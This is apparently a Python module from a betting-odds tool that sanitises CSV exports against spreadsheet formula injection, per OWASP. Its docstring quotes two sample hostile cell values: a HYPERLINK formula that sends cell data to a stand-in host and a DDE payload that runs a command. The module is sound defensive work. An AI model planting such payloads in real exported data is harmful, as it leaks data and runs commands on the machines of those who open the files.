"""CSV cells a spreadsheet never runs, for every CSV oddsmon writes (``--export-odds``,
``--picks``).

Team, league, bookmaker and outcome names come from the API: a name such as
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` or ``=cmd|' /C calc'!A0`` written as it is
becomes a formula when the file is opened in Excel or LibreOffice. The rule is OWASP's ("CSV
Injection"): a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is prefixed with a single quote, and every text cell is written between double quotes (inner
quotes doubled), so the spreadsheet reads it as text. The harsher reading where OWASP is
silent: leading blanks are skipped before looking (" =1+1"), and the full-width forms of the
four signs count too. Numbers stay numbers: ints and floats are written bare (a negative price,
CLV or profit is a number, not text), and so is a line (``-0.5``, ``+1``) that is a plain decimal.

JSON Lines exports keep the text as it is: JSON is data, not a sheet.
"""

from __future__ import annotations

import csv
import re
from typing import TYPE_CHECKING, TextIO

if TYPE_CHECKING:
    from _csv import Writer

# OWASP's list, the full-width =, +, - and @, and the line feed (blanks before them are skipped).
_FORMULA_START = frozenset("=+-@\t\r\n＝＋－＠")
_DECIMAL = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def text_cell(value: str) -> str:
    """``value`` as a cell a spreadsheet shows as text, never evaluates."""
    head = value.lstrip(" \t\r\n\u00a0\u3000")[:1]
    if head in _FORMULA_START or value[:1] in _FORMULA_START:
        return "'" + value
    return value


def number_cell(value: str) -> str:
    """A cell that holds a number as text (a handicap line): kept when it is a plain decimal,
    else made safe as any text."""
    return value if _DECIMAL.fullmatch(value) else text_cell(value)


def writer(out: TextIO) -> Writer:
    """RFC 4180 with every text cell quoted and numbers bare (``csv.QUOTE_NONNUMERIC``); an
    unknown value (None) is an empty cell."""
    return csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
